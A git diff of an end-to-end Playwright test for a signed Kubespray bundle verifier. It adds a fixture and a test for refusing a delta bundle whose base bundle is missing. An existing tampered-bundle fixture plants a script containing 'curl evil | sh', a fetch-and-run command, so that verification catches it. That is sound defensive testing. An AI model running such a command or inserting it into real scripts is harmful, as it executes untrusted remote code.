@@ -6,8 +6,9 @@ import type { Browser, Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { generateSigningKey } from '../../electron/node/bundles/bundle-signing';
 import { addOperatorKey } from '../../electron/node/bundles/trusted-publishers';
+import { writeSignedManifest } from '../../electron/node/bundles/write-manifest';
 import { repoRoot, startServe, type ServeProcess } from '../support/airspray-serve';
-import { writeSignedKubesprayBundle } from '../support/bundle-fixtures';
+import { testManifest, writeSignedKubesprayBundle } from '../support/bundle-fixtures';
 import { launchChromium } from '../support/chromium';
 
 const screenshotDir = join(repoRoot, 'test-results', 'screenshots');
@@ -51,6 +52,14 @@ beforeAll(async () => {
   await writeSignedKubesprayBundle(tamperedBundle, 'ks-2.23.3-tampered', key);
   await writeFile(join(tamperedBundle, 'files', 'dl.k8s.io', 'kubeadm'), randomBytes(4096));
   await writeFile(join(tamperedBundle, 'files', 'planted.sh'), 'curl evil | sh\n');
+
+  // A delta whose base is not on the stick.
+  const delta = join(bundles, 'kubespray-2.23.4-delta');
+  await mkdir(join(delta, 'kubespray'), { recursive: true });
+  await writeFile(join(delta, 'kubespray', 'cluster.yml'), '- import_playbook: playbooks/cluster.yml\n');
+  const base = { bundleId: 'ks-2.23.3-gone', manifestSha256: 'a'.repeat(64), files: [] };
+  const deltaFields = { bundleId: 'ks-2.23.4-delta', formatVersion: 3 as const, base };
+  await writeSignedManifest(delta, await testManifest(delta, deltaFields), key.privateKeyPem);
 
   await mkdir(screenshotDir, { recursive: true });
   serve = await startServe(['--data-dir', dataDir, '--bundles-dir', bundles]);
@@ -116,6 +125,20 @@ describe('Bundle step verification in Debian Chromium against the real server', 
     await page.reload();
     const again = page.getByRole('region', { name: 'Verification of kubespray-2.23.3-large' });
     await expect.poll(() => again.textContent()).toContain('remembered: nothing changed since');
+    await page.context().close();
+  });
+
+  it('names the base a delta needs, and refuses the delta without that base beside it', async () => {
+    const page = await openBundleStep();
+    const card = page.getByRole('listitem').filter({ hasText: 'kubespray-2.23.4-delta' });
+    expect(await card.textContent()).toContain('Delta of ks-2.23.3-gone');
+    const panel = page.getByRole('region', { name: 'Verification of kubespray-2.23.4-delta' });
+    await panel.getByRole('button', { name: 'Verify', exact: true }).click();
+    const refusals = panel.getByRole('list', { name: 'Refusals' });
+    await expect
+      .poll(() => refusals.textContent())
+      .toContain('This is a delta of ks-2.23.3-gone, which is not beside it');
+    expect(await refusals.textContent()).toContain('Base bundle');
     await page.context().close();
   });
 });
